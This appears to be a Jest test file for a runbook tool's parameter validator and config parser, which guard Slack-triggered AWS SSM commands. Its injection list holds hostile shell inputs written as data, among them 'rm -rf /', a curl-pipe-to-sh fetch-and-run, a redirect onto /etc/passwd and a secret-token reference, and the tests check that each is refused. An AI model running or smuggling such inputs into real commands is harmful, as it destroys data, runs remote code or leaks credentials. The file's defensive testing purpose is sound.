import type { RunbookParameter } from '../../../../services/config/config';
import { parseConfig } from '../../../../services/config/config';
import { checkParameterValue } from '../../../../services/config/param-rules';

function param(overrides: Partial<RunbookParameter> = {}): RunbookParameter {
  return {
    name: 'value',
    description: '',
    type: 'string',
    pattern: '.*',
    allowShellMetacharacters: false,
    ...overrides,
  } as RunbookParameter;
}

/** The injection attempts every parameter without metacharacters must refuse. */
const INJECTIONS: [string, string][] = [
  ['a command after ;', 'nginx; rm -rf /'],
  ['command substitution', '$(curl 203.0.113.9|sh)'],
  ['backticks', '`id`'],
  ['a newline', 'nginx\nrm -rf /'],
  ['a carriage return', 'nginx\rreboot'],
  ['single quotes', "x' ; reboot ; '"],
  ['double quotes', 'x" ; reboot ; "'],
  ['&&', 'nginx && reboot'],
  ['a pipe', 'nginx|sh'],
  ['a redirect', 'x>/etc/passwd'],
  ['a variable', '$HOME'],
  ['a glob', '/etc/*'],
  ['a space', 'two words'],
  ['an SSM parameter reference', '{{ssm:/sg-warden/prod/slack-bot-token}}'],
  ['a leading dash (an option)', '--help'],
  ['a bidi override', 'abc\u202edcba'],
  ['a NUL', 'a\u0000b'],
];

describe('param-rules', () => {
  describe('checkParameterValue', () => {
    it.each(INJECTIONS)('refuses %s', (_name, value) => {
      expect(checkParameterValue(param(), value)).not.toBeNull();
    });

    it.each([
      ['nginx'],
      ['/var/log/syslog'],
      ['web-1.prod:8080'],
      ['user@example.com'],
      ['a=b,c+d%2F'],
      [''],
    ])('accepts the plain value %j', (value) => {
      expect(checkParameterValue(param(), value)).toBeNull();
    });

    it('names the characters it refuses', () => {
      expect(checkParameterValue(param(), 'a; b|c')).toBe(
        'contains ";", a space, "|": only letters, digits and _ . : / @ % + , = - are allowed',
      );
      expect(checkParameterValue(param(), 'a\nb')).toBe('contains a newline, which is never allowed');
    });

    it('lets a metacharacter parameter hold ; $( ) ` | & quotes and spaces', () => {
      const meta = param({ allowShellMetacharacters: true });
      for (const value of ['nginx; rm -rf /', '$(id) `id` a|b && c', `it's "quoted"`, '--help'])
        expect(checkParameterValue(meta, value)).toBeNull();
    });

    it('refuses control characters and {{ }} even where metacharacters are allowed', () => {
      const meta = param({ allowShellMetacharacters: true });
      expect(checkParameterValue(meta, 'a\nb')).toMatch(/newline/);
      expect(checkParameterValue(meta, 'tab\there')).toMatch(/tab/);
      expect(checkParameterValue(meta, '{{ssm:/x}}')).toMatch(/parameter reference/);
      expect(checkParameterValue(meta, 'x'.repeat(1025))).toMatch(/longer than 1024/);
    });

    it('matches the whole value against the pattern, not a part of it', () => {
      const p = param({ pattern: '[a-z]+' });
      expect(checkParameterValue(p, 'nginx')).toBeNull();
      expect(checkParameterValue(p, 'nginx2')).toBe('does not match [a-z]+');
      expect(checkParameterValue(param({ pattern: 'a|b', allowShellMetacharacters: true }), 'ab')).toBe(
        'does not match a|b',
      );
    });

    it('accepts only enum members', () => {
      const p = param({ pattern: undefined, enum: ['nginx', 'php-fpm'] });
      expect(checkParameterValue(p, 'php-fpm')).toBeNull();
      expect(checkParameterValue(p, 'sshd')).toBe('is not one of nginx, php-fpm');
    });

    it('checks integers and their range', () => {
      const p = param({ type: 'integer', pattern: undefined, min: 1, max: 1000 });
      expect(checkParameterValue(p, '200')).toBeNull();
      expect(checkParameterValue(p, '0')).toBe('is less than 1');
      expect(checkParameterValue(p, '1001')).toBe('is more than 1000');
      for (const bad of ['1e3', '12; ls', '0x10', ' 5', '$(id)'])
        expect(checkParameterValue(p, bad)).not.toBeNull();
    });
  });

  describe('config', () => {
    const yaml = (...lines: string[]) =>
      [
        'slack:',
        '  alertChannel: C0TEST',
        'runbooks:',
        '  targets:',
        '    web: { region: eu-west-1, tags: { Role: web } }',
        ...lines,
      ].join('\n');
    const errorOf = (text: string) => {
      try {
        parseConfig(text, 'f.yml');
      } catch (e) {
        return (e as Error).message;
      }
      return 'no error';
    };

    it('accepts a runbook with typed parameters and fills their defaults', () => {
      const config = parseConfig(
        yaml(
          '  items:',
          '    tail-logs:',
          '      region: eu-west-1',
          '      targets: [web, i-0123456789abcdef0]',
          '      commands: ["tail -n {{ lines }} {{ file }}"]',
          '      parameters:',
          '        - { name: lines, type: integer, min: 1, max: 500, default: 100 }',
          '        - { name: file, enum: [/var/log/syslog, /var/log/nginx/error.log] }',
        ),
        'f.yml',
      );
      expect(config.runbooks.items['tail-logs']!.parameters[0]).toMatchObject({
        type: 'integer',
        default: '100',
      });
    });

    it.each([
      [
        'a placeholder naming no parameter',
        ['      commands: ["echo {{ nope }}"]'],
        'runbooks.items.rb.commands.0: {{ nope }} is not a declared parameter',
      ],
      [
        'a parameter no command uses',
        ['      commands: ["uptime"]', '      parameters: [{ name: unused, pattern: "x" }]'],
        'runbooks.items.rb.parameters.0: "unused" is not used by any command ({{ unused }})',
      ],
      [
        'a default that breaks the rules',
        [
          '      commands: ["echo {{ v }}"]',
          '      parameters: [{ name: v, pattern: ".*", default: "a;b" }]',
        ],
        'runbooks.items.rb.parameters.0.default: "a;b" contains ";"',
      ],
      [
        'a pattern that is not a regular expression',
        ['      commands: ["echo {{ v }}"]', '      parameters: [{ name: v, pattern: "(" }]'],
        'runbooks.items.rb.parameters.0.pattern: is not a valid regular expression',
      ],
      [
        'an unknown target alias',
        ['      commands: ["uptime"]', '      targets: [db]'],
        'runbooks.items.rb.targets.0: "db" is neither an instance ID (i-…) nor an alias in runbooks.targets',
      ],
      [
        'commands for a document that takes its own parameters',
        ['      document: Acme-Restart', '      commands: ["uptime"]'],
        'runbooks.items.rb.commands: only AWS-RunShellScript and AWS-RunPowerShellScript take commands',
      ],
      [
        'a timeout beyond 48 hours',
        ['      commands: ["uptime"]', '      timeout: 3d'],
        'runbooks.items.rb.timeout: must be between 30s and 48h',
      ],
    ])('names the field for %s', (_name, lines, message) => {
      const targets = lines.some((l) => l.includes('targets:')) ? [] : ['      targets: [web]'];
      expect(errorOf(yaml('  items:', '    rb:', '      region: eu-west-1', ...targets, ...lines))).toContain(
        message,
      );
    });

    it('refuses a runbook named like a sub-command and ad-hoc commands without settings', () => {
      expect(
        errorOf(
          yaml(
            '  items:',
            '    list:',
            '      region: eu-west-1',
            '      targets: [web]',
            '      commands: [uptime]',
          ),
        ),
      ).toContain('runbooks.items.list: "list" is a /sg-run sub-command');
      expect(errorOf(yaml('  allowAdHoc: true'))).toContain(
        'runbooks.adHoc: is required when allowAdHoc is true',
      );
      expect(errorOf(yaml('  allowAdHoc: true', '  adHoc: { region: eu-west-1, targets: [web] }'))).toContain(
        'runbooks.adHoc.allowed: must name users or userGroups',
      );
    });

    it('case 10: refuses ad-hoc commands whose approvers name nobody, naming the field', () => {
      const adHoc = (approvers: string) =>
        yaml(
          '  allowAdHoc: true',
          '  adHoc:',
          '    region: eu-west-1',
          '    targets: [web]',
          '    allowed: { users: [U0ENGINEER] }',
          `    approvers: ${approvers}`,
          '    channel: C0ADHOC',
        );
      for (const approvers of ['{}', '{ users: [], userGroups: [] }'])
        expect(errorOf(adHoc(approvers))).toContain(
          'runbooks.adHoc.approvers: must name users or userGroups: with nobody named, anyone but the requester could approve a shell',
        );
      expect(errorOf(adHoc('{ userGroups: [S0SRELEADS] }'))).toBe('no error');
    });

    it('case 10: requires the channel ad-hoc approval requests are posted in', () => {
      const text = yaml(
        '  allowAdHoc: true',
        '  adHoc:',
        '    region: eu-west-1',
        '    targets: [web]',
        '    allowed: { users: [U0ENGINEER] }',
        '    approvers: { users: [U0APPROVER] }',
      );
      expect(errorOf(text)).toContain(
        'runbooks.adHoc.channel: is required: ad-hoc approval requests are posted in this channel',
      );
      expect(parseConfig(`${text}\n    channel: C0ADHOC`, 'f.yml').runbooks.adHoc?.channel).toBe('C0ADHOC');
    });

    it('refuses a target alias in another region than the runbook', () => {
      expect(
        errorOf(
          yaml(
            '  items:',
            '    rb:',
            '      region: us-east-1',
            '      targets: [web]',
            '      commands: [uptime]',
          ),
        ),
      ).toContain('runbooks.items.rb.targets.0: "web" is in eu-west-1, but this runs in us-east-1');
    });
  });
});
